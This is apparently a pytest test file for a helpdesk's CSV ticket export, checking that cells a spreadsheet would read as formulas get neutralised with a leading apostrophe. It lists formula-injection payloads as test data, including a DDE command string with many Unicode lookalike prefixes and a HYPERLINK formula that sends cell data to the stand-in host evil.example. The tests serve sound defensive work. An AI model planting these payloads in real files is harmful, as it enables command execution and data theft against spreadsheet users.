"""osTicket 9981848: a cell that a spreadsheet would take for a formula is text in our files."""

import csv
import unicodedata

import pytest

from helpdesk.reporting import ticket_csv
from tickets.models import Ticket

ATTACK = "cmd|'/C calc'!A0"
LIVE = [
    *(f"{sign}{ATTACK}" for sign in "=+-@\t\r"),
    *(f"{before}={ATTACK}" for before in (" ", "   ", "\t ", "\n", '"', "'", "''", '" ', "\u00a0")),
    *(f"{before}@{ATTACK}" for before in ("\u3000", "\u200b", "\ufeff", "\u2060", "“", "＂")),  # noqa: RUF001
    *(f"{sign}1+1" for sign in "＝＋－＠﹦﹢﹣﹫⁼⁺⁻−"),  # noqa: RUF001
    '=HYPERLINK("https://evil.example?x="&A1)',
    "=",
]
HARMLESS = ["Plain", "a=b", "3-4", "x@y.example", "'quoted'", "(-1)", "5 + 5", "", "’s morgens"]  # noqa: RUF001


def cells(cast, text, column="title"):
    """The column of a ticket as a spreadsheet gets it, and the ticket's line."""
    lines = b"".join(ticket_csv.chunks(Ticket.objects.of_tenant(cast.tenant), lambda count: None))
    [row] = list(csv.DictReader(lines.decode().splitlines(keepends=True)))
    return row[column]


@pytest.mark.parametrize("text", LIVE, ids=ascii)
def test_it_disarms_a_title(cast, text):
    Ticket.objects.filter(pk=cast.ticket().pk).update(title=text)
    assert cells(cast, text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_it_leaves_other_text_as_it_is(cast, text):
    Ticket.objects.filter(pk=cast.ticket().pk).update(title=text)
    assert cells(cast, text) == text


@pytest.mark.parametrize("column", ["requester", "assignee", "team"])
def test_it_disarms_names(cast, agent, column):
    ticket = cast.ticket(assignee=agent, team=cast.team())
    for row, name in (
        (ticket.requester, "display_name"),
        (agent, "display_name"),
        (ticket.team, "name"),
    ):
        type(row).objects.filter(pk=row.pk).update(**{name: f"=1+{row.pk}"})
    assert cells(cast, "", column).startswith("'=1+")


def test_it_knows_every_twin_of_what_begins_a_formula():
    twins = {
        char
        for char in map(chr, range(0x110000))
        if unicodedata.normalize("NFKC", char) in {"=", "+", "-", "@"}
    }
    assert twins <= set(ticket_csv.FORMULA)
